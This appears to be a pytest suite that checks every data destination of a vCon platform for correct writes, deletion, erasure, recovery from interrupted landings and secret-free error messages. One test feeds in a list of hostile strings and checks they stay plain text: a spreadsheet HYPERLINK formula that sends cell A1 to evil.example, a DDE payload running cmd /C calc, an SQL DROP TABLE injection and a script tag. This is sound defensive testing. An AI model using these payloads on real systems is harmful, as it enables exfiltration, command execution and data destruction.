"""The standard suite that every kind of destination runs.

A test class inherits :class:`DestinationSuite` and gives the fixtures ``destination``, ``projection`` (made by
:func:`suite_projection`) and ``stored`` (read back what the outside really holds, never through the destination). The
other fixtures (``unreachable``, ``refused``, ``lose_one_row``) skip their test where a kind has no such case.

Keep a kind's server or fake for the whole module: the suite begins every test by erasing what it may have left.
"""

from __future__ import annotations

import contextlib
import hashlib
from collections.abc import Callable, Iterable, Mapping, Sequence
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vcon_platform.projections.destination import Destination, Session, Written
from vcon_platform.projections.errors import DestinationError, DestinationUnavailable
from vcon_platform.projections.model import Projection
from vcon_platform.projections.reconcile import Landed, reconcile
from vcon_platform.projections.rows import RowSet

DAYS = ("2026-03-01", "2026-03-02", "2026-03-03")
UUIDS = tuple(f"018f2b6e-4c1d-8a52-9f7e-{number:012x}" for number in range(1, 7))
A, B, C = UUIDS[:3]
SECRET = "not-to-be-told-7f3a"
"""The secret that ``refused`` is to be connected with: it must stand in no message."""

HOSTILE = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "line\nfeed\r\nand\ttab",
    "quotes ' \" ` and \\ and \\N and \\.",
    "'; DROP TABLE calls; --",
    '","other","cells\n',
    "{{ 7*7 }} ${7*7} %s {} $1",
    "<script>alert(1)</script>",
    "\u202eright to left\u2066 \u200b\ufeff",
    "\U0001f600 \u00e4\u00f6\u00fc \u4f60\u597d e\u0301",
    "with\0out",
    "\x01\x1b[31m\x7f",
    "  blanks around  ",
    "NULL",
    "true",
    "1e5",
    "2026-03-01",
    "x" * 20_000,
)


def suite_projection(kind: str, **options: Any) -> Projection:
    """The suite's table: any number of rows per conversation, in a destination of this kind with these options."""
    return Projection.model_validate(
        {
            "name": "suite",
            "pipelines": ["recall"],
            "rows": "conversation",
            "key": ["uuid", "position"],
            "columns": [
                {"name": "uuid", "type": "text", "from": "uuid"},
                {"name": "position", "type": "integer", "from": "duration_seconds"},
                {"name": "note", "type": "text", "from": "subject"},
                {"name": "seconds", "type": "numeric", "from": "duration_seconds"},
                {"name": "at", "type": "timestamptz", "from": "start"},
            ],
            "destinations": [{kind: options}],
        }
    )


def with_columns(projection: Projection, *added: dict[str, Any], without: str = "", **members: Any) -> Projection:
    """The projection with other columns (``without``: the name of one that goes) and members."""
    told = projection.model_dump(by_alias=True)
    columns = [each for each in told["columns"] if each["name"] != without]
    return Projection.model_validate(told | {"columns": [*columns, *added]} | members)


def row(position: Any = 0, note: Any = "said", seconds: Any = 61.5, at: Any = "2026-03-01T09:30:00+00:00") -> dict:  # type: ignore[type-arg]
    """A row of the suite's table but for its uuid."""
    return {"position": position, "note": note, "seconds": seconds, "at": at}


def a_set(projection: Projection, uuid: str, day: str, *rows: Mapping[str, Any]) -> RowSet:
    """A conversation's rows with a hash as ``rows.py`` makes them, also over values that are no JSON."""
    made = tuple({"uuid": uuid, **each} for each in (rows or (row(),)))
    digest = hashlib.sha256(repr((day, made)).encode("utf-8", "surrogatepass")).hexdigest()[:16]
    return RowSet(uuid=uuid, day=day, rows=made, hash=f"{projection.version}-{digest}-{len(made)}")


class Flaky(Destination):
    """A destination whose connection breaks at the n-th write or delete of its sessions."""

    kind = "flaky"

    def __init__(self, inner: Destination, breaks_at: int) -> None:
        self.inner = inner
        self.left = breaks_at
        self.kind = inner.kind  # type: ignore[misc]  # it stands for that very destination
        self.target = inner.target  # type: ignore[method-assign]

    @classmethod
    def connect(cls, projection: Projection, connections: object) -> Any:
        raise NotImplementedError

    @classmethod
    def target(cls, projection: Projection) -> str:
        return projection.name

    def ensure(self, projection: Projection) -> None:
        self.inner.ensure(projection)

    def held(self, projection: Projection, days: Sequence[str]) -> dict[str, str]:
        return self.inner.held(projection, days)

    def session(self, projection: Projection, days: Sequence[str]) -> Session:
        return _FlakySession(self, self.inner.session(projection, days))

    def erase(self, projection: Projection, uuids: Sequence[str]) -> list[str]:
        return self.inner.erase(projection, uuids)

    def count(self, projection: Projection, days: Sequence[str] | None = None) -> dict[str, int]:
        return self.inner.count(projection, days)

    def break_now(self) -> None:
        self.left -= 1
        if self.left < 0:
            raise DestinationUnavailable("the line went dead")


class _FlakySession(Session):
    def __init__(self, flaky: Flaky, inner: Session) -> None:
        self._flaky, self._inner = flaky, inner

    def write(self, sets: Sequence[RowSet]) -> Written:
        half = self._inner.write(sets[: len(sets) // 2]) if len(sets) > 1 else Written(())
        self._flaky.break_now()
        rest = self._inner.write(sets[len(sets) // 2 :] if len(sets) > 1 else sets)
        return Written(half.changed + rest.changed, half.rejected + rest.rejected)

    def delete(self, uuids: Sequence[str]) -> list[str]:
        self._flaky.break_now()
        return self._inner.delete(uuids)

    def __enter__(self) -> _FlakySession:
        self._inner.__enter__()
        return self

    def __exit__(self, *error: Any) -> None:
        self._inner.__exit__(*error)


class Declared:
    """What should be there: sets by uuid, as the store would tell."""

    def __init__(self, projection: Projection, sets: Iterable[RowSet] = ()) -> None:
        self.projection = projection
        self.sets = {each.uuid: each for each in sets}

    def set(self, uuid: str, day: str, *rows: Mapping[str, Any]) -> None:
        self.sets[uuid] = a_set(self.projection, uuid, day, *rows)

    def land(self, destination: Destination, days: Sequence[str] = DAYS) -> Landed:
        expected = {uuid: each.hash for uuid, each in self.sets.items() if each.day in days}
        return reconcile(
            self.projection, destination, days, expected, lambda uuids: [self.sets[uuid] for uuid in uuids]
        )


Stored = Callable[[], list[dict[str, Any]]]
_NOTES = ("one", "two", "=1+1", None)
_STEPS = st.one_of(
    st.tuples(
        st.just("set"),
        st.sampled_from(UUIDS[:4]),
        st.sampled_from(DAYS),
        st.lists(st.sampled_from(_NOTES), min_size=1, max_size=3),
    ),
    st.tuples(st.just("gone"), st.sampled_from(UUIDS[:4])),
    st.tuples(st.just("erase"), st.sampled_from(UUIDS[:4])),
    st.tuples(st.just("land"), st.lists(st.sampled_from(DAYS), min_size=1, max_size=3, unique=True)),
    st.tuples(st.just("land, broken off"), st.integers(0, 2)),
    st.tuples(st.just("land what was true before"), st.sampled_from(DAYS)),
)


class DestinationSuite:
    """Inherit, and give the fixtures ``destination``, ``projection`` and ``stored``."""

    examples = 12
    """Random histories; fewer for a slow kind."""
    big = 5_000
    """Rows of the big landing."""

    @pytest.fixture
    def unreachable(self) -> Destination:
        """A destination whose system does not answer (a port nobody listens on, a fake that is down)."""
        pytest.skip("this kind has nothing that could be away")

    @pytest.fixture
    def refused(self) -> Destination:
        """A destination that connects with :data:`SECRET` and whose system refuses it (401, 403, no right)."""
        pytest.skip("this kind asks for no secret")

    @pytest.fixture
    def lose_one_row(self) -> Callable[[str], None]:
        """Take one row of a uuid away, by hand, outside the platform."""
        pytest.skip("this kind cannot be asked what it holds")

    @pytest.fixture(autouse=True)
    def _nothing_left(self, request: pytest.FixtureRequest) -> None:
        """Every test begins with nothing of the suite's conversations."""
        destination, projection = request.getfixturevalue("destination"), request.getfixturevalue("projection")
        destination.erase(projection, UUIDS)

    # What may be overridden where a kind shows values in another way.

    def plain(self, value: Any, column: str) -> Any:
        """A stored value as the suite compares it: None (also for empty text), text, float, or a time in UTC."""
        if value is None or value == "":
            return None
        if column in ("position", "seconds"):
            return float(value)
        if column == "at":
            moment = value if isinstance(value, datetime) else datetime.fromisoformat(str(value))
            return (moment if moment.tzinfo else moment.replace(tzinfo=UTC)).astimezone(UTC)
        return str(value)

    def kept_text(self, text: str) -> str:
        """How this kind keeps a text: verbatim, but for U+0000."""
        return text.replace("\0", "")

    # Helpers.

    def _shown(self, projection: Projection, rows: Iterable[Mapping[str, Any]]) -> list[tuple[Any, ...]]:
        names = [column.name for column in projection.columns]
        return sorted((tuple(self.plain(each.get(name), name) for name in names) for each in rows), key=repr)

    def _expected(self, projection: Projection, sets: Iterable[RowSet]) -> list[tuple[Any, ...]]:
        rows = [dict(each) | {"uuid": one.uuid} for one in sets for each in one.rows]
        for each in rows:
            if isinstance(each["note"], str):
                each["note"] = self.kept_text(each["note"])
        return self._shown(projection, rows)

    def _write(self, destination: Destination, projection: Projection, *sets: RowSet) -> Written:
        destination.ensure(projection)
        with destination.session(projection, sorted({each.day for each in sets})) as session:
            return session.write(sets)

    # The promises.

    def test_before_anything_was_created_it_holds_nothing(
        self, destination: Destination, projection: Projection
    ) -> None:
        never = projection.model_copy(update={"name": "never_made", "destinations": projection.destinations})
        assert destination.held(projection, DAYS) == {}
        assert destination.erase(never, [A]) == []
        assert not any(destination.count(projection, DAYS).values())

    def test_what_is_written_stands_there(
        self, destination: Destination, projection: Projection, stored: Stored
    ) -> None:
        sets = [a_set(projection, A, DAYS[0], row(0), row(1, "more")), a_set(projection, B, DAYS[1])]
        written = self._write(destination, projection, *sets)
        assert (set(written.changed), written.rejected) == ({A, B}, ())
        assert self._shown(projection, stored()) == self._expected(projection, sets)
        assert destination.held(projection, DAYS) == {each.uuid: each.hash for each in sets}
        assert destination.held(projection, [DAYS[1]]) == {B: sets[1].hash}
        assert {day: rows for day, rows in destination.count(projection).items() if rows} == {DAYS[0]: 2, DAYS[1]: 1}
        assert destination.count(projection, [DAYS[0]])[DAYS[0]] == 2

    def test_the_same_again_changes_nothing(
        self, destination: Destination, projection: Projection, stored: Stored
    ) -> None:
        each = a_set(projection, A, DAYS[0], row(0), row(1))
        self._write(destination, projection, each)
        assert self._write(destination, projection, each).changed == ()
        assert self._shown(projection, stored()) == self._expected(projection, [each])

    def test_a_set_takes_the_place_of_the_earlier_one_also_with_fewer_rows(
        self, destination: Destination, projection: Projection, stored: Stored
    ) -> None:
        self._write(destination, projection, a_set(projection, A, DAYS[0], row(0), row(1), row(2)))
        after = a_set(projection, A, DAYS[0], row(0, "new"), row(2))
        neighbour = a_set(projection, B, DAYS[0])
        assert set(self._write(destination, projection, after, neighbour).changed) == {A, B}
        assert self._shown(projection, stored()) == self._expected(projection, [after, neighbour])
        assert destination.held(projection, [DAYS[0]]) == {A: after.hash, B: neighbour.hash}

    def test_a_conversation_that_moves_to_another_day_stands_there_once(
        self, destination: Destination, projection: Projection, stored: Stored
    ) -> None:
        self._write(destination, projection, a_set(projection, A, DAYS[0], row(0), row(1)))
        moved = a_set(projection, A, DAYS[2], row(0))
        self._write(destination, projection, moved)
        assert self._shown(projection, stored()) == self._expected(projection, [moved])
        assert destination.held(projection, DAYS[:2]) == {}
        assert destination.held(projection, DAYS) == {A: moved.hash}

    def test_deleting_takes_only_what_stands_on_the_sessions_days(
        self, destination: Destination, projection: Projection, stored: Stored
    ) -> None:
        sets = [a_set(projection, A, DAYS[0]), a_set(projection, B, DAYS[1]), a_set(projection, C, DAYS[0])]
        self._write(destination, projection, *sets)
        with destination.session(projection, [DAYS[0]]) as session:
            assert session.delete([A, B, UUIDS[5]]) == [A]
        assert self._shown(projection, stored()) == self._expected(projection, sets[1:])

    def test_a_session_takes_many_steps(self, destination: Destination, projection: Projection, stored: Stored) -> None:
        first, second, third = (a_set(projection, uuid, DAYS[0]) for uuid in (A, B, C))
        self._write(destination, projection, first)
        with destination.session(projection, DAYS[:2]) as session:
            assert session.delete([A]) == [A]
            assert session.write([second]).changed == (B,)
            assert session.write([third]).changed == (C,)
        with destination.session(projection, DAYS[:2]):
            pass
        assert self._shown(projection, stored()) == self._expected(projection, [second, third])

    def test_rows_that_do_not_fit_are_told_and_their_neighbours_land(
        self, destination: Destination, projection: Projection, stored: Stored
    ) -> None:
        bad = {
            "seconds": row(1, seconds="many"),
            "at": row(1, at="Tuesday"),
            "note": row(1, note="\ud800"),
            "position": row(None),
            "key": row(0, "a second one of the same key"),
        }
        *spoilt, whole = UUIDS
        sets = [a_set(projection, uuid, DAYS[0], row(0), each) for uuid, each in zip(spoilt, bad.values(), strict=True)]
        neighbour = a_set(projection, whole, DAYS[0])
        written = self._write(destination, projection, *sets, neighbour)
        told = {each.uuid: each.column for each in written.rejected}
        expected = dict(zip(spoilt, bad, strict=True))
        assert told.pop(spoilt[-1]) in projection.key
        del expected[spoilt[-1]]
        assert told == expected
        assert not any(value in each.reason for each in written.rejected for value in ("many", "Tuesday"))
        good = [a_set(projection, uuid, DAYS[0], row(0)) for uuid in spoilt]
        assert self._shown(projection, stored()) == self._expected(projection, [*good, neighbour])
        held = destination.held(projection, DAYS)
        assert [held.get(uuid, "") for uuid in UUIDS] == [*[""] * 5, neighbour.hash]

    def test_hostile_text_stays_text(self, destination: Destination, projection: Projection, stored: Stored) -> None:
        hostile = a_set(projection, A, DAYS[0], *(row(place, text) for place, text in enumerate(HOSTILE)))
        written = self._write(destination, projection, hostile)
        assert written.rejected == ()
        assert self._shown(projection, stored()) == self._expected(projection, [hostile])
        assert destination.held(projection, DAYS) == {A: hostile.hash}

    def test_the_uuid_is_the_sets_whatever_a_row_says(
        self, destination: Destination, projection: Projection, stored: Stored
    ) -> None:
        """Whoever can post a vCon must not be able to write over another conversation's rows."""
        theirs = a_set(projection, B, DAYS[0])
        self._write(destination, projection, theirs)
        forged = a_set(projection, A, DAYS[0], row(0, "mine") | {"uuid": B})
        self._write(destination, projection, forged)
        assert self._shown(projection, stored()) == self._expected(projection, [forged, theirs])

    def test_a_big_landing_is_complete(self, destination: Destination, projection: Projection, stored: Stored) -> None:
        each = a_set(projection, A, DAYS[0], *(row(place, f"turn {place}", place / 2) for place in range(self.big)))
        written = self._write(destination, projection, each)
        assert (written.changed, written.rejected) == ((A,), ())
        assert len(stored()) == self.big
        assert destination.held(projection, [DAYS[0]]) == {A: each.hash}
        assert destination.count(projection, [DAYS[0]]) == {DAYS[0]: self.big}

    def test_what_was_broken_off_in_the_middle_is_mended_by_the_next_landing(
        self, destination: Destination, projection: Projection, stored: Stored
    ) -> None:
        declared = Declared(projection)
        declared.set(A, DAYS[0], row(0), row(1), row(2))
        declared.set(B, DAYS[0])
        declared.land(destination)
        declared.set(A, DAYS[1], row(0, "moved"))
        declared.set(C, DAYS[0], row(0), row(1))
        del declared.sets[B]
        with pytest.raises(DestinationUnavailable):
            declared.land(Flaky(destination, breaks_at=1))
        declared.land(destination)
        assert self._shown(projection, stored()) == self._expected(projection, declared.sets.values())
        again = declared.land(destination)
        assert (again.written, again.deleted, again.unchanged) == ((), (), 2)

    def test_a_set_of_which_a_row_was_lost_is_not_whole_and_is_mended(
        self, destination: Destination, projection: Projection, stored: Stored, lose_one_row: Callable[[str], None]
    ) -> None:
        declared = Declared(projection)
        declared.set(A, DAYS[0], row(0), row(1))
        declared.set(B, DAYS[0])
        declared.land(destination)
        lose_one_row(A)
        held = destination.held(projection, DAYS)
        assert (held.get(A, ""), held[B]) == ("", declared.sets[B].hash)
        assert declared.land(destination).written == (A,)
        assert self._shown(projection, stored()) == self._expected(projection, declared.sets.values())

    def test_erasing_takes_everything_on_any_day(
        self, destination: Destination, projection: Projection, stored: Stored
    ) -> None:
        stays = a_set(projection, B, DAYS[0])
        self._write(destination, projection, a_set(projection, A, DAYS[0], row(0), row(1)), stays)
        self._write(destination, projection, a_set(projection, C, DAYS[2]))
        assert sorted(destination.erase(projection, [A, C, UUIDS[5]])) == [A, C]
        assert self._shown(projection, stored()) == self._expected(projection, [stays])
        assert destination.held(projection, DAYS) == {B: stays.hash}
        assert destination.erase(projection, [A, C]) == []

    def test_a_system_that_does_not_answer_is_unavailable(
        self, unreachable: Destination, projection: Projection
    ) -> None:
        with pytest.raises(DestinationUnavailable) as told:
            Declared(projection, [a_set(projection, A, DAYS[0])]).land(unreachable)
        assert projection.name in str(told.value)

    def test_a_refusal_is_told_without_the_secret(self, refused: Destination, projection: Projection) -> None:
        with pytest.raises(DestinationError) as told:
            Declared(projection, [a_set(projection, A, DAYS[0])]).land(refused)
        assert not isinstance(told.value, DestinationUnavailable)
        assert SECRET not in str(told.value)
        assert projection.name in str(told.value)

    def test_after_any_history_one_landing_makes_it_right(
        self, destination: Destination, projection: Projection, stored: Stored
    ) -> None:
        """Sets come, change, move between days, go and are erased; landings come for some days, late, or die."""

        @settings(
            max_examples=self.examples,
            deadline=None,
            suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
        )
        @given(st.lists(_STEPS, min_size=2, max_size=8))
        def histories(steps: list[tuple[Any, ...]]) -> None:
            destination.erase(projection, UUIDS)
            declared = Declared(projection)
            earlier: dict[str, RowSet] = {}
            for step in steps:
                match step:
                    case ("set", uuid, day, notes):
                        earlier = dict(declared.sets)
                        declared.set(uuid, day, *(row(place, note) for place, note in enumerate(notes)))
                    case ("gone", uuid):
                        earlier = dict(declared.sets)
                        declared.sets.pop(uuid, None)
                    case ("erase", uuid):
                        declared.sets.pop(uuid, None)
                        destination.erase(projection, [uuid])
                    case ("land", days):
                        declared.land(destination, days)
                    case ("land, broken off", after):
                        with contextlib.suppress(DestinationUnavailable):
                            declared.land(Flaky(destination, breaks_at=after))
                    case ("land what was true before", day):
                        Declared(projection, earlier.values()).land(destination, [day])
            landed = declared.land(destination)
            assert self._shown(projection, stored()) == self._expected(projection, declared.sets.values())
            assert sum(landed.rows.values()) == sum(len(each.rows) for each in declared.sets.values())
            again = declared.land(destination)
            assert (again.written, again.deleted, again.unchanged) == ((), (), len(declared.sets))

        histories()
